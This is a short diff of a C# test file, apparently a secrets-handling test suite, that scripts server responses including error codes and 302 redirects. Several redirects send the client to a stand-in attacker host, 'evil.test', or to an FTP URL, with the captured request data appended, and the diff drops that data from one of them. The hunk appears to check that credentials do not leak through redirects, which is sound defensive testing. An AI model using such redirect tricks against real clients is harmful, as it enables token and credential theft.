@@ -27,7 +27,7 @@ public class SecretsTests
         request => Echo(request, 404),
         request => Echo(request, 500),
         request => Echo(request, 429, ("Retry-After", "1000")),
-        request => Echo(request, 302, ("Location", "https://evil.test/?" + Sent(request))),
+        request => Echo(request, 302, ("Location", "https://evil.test/")),
         request => Echo(request, 302, ("Location", "http://evil.test/?" + Sent(request))),
         request => Echo(request, 302, ("Location", "ftp://" + Sent(request))),
         request => request.Address.AbsolutePath == "/token" ? ScriptedPlaces.Answer(200, $$"""{"token":"{{Token}}"}""")
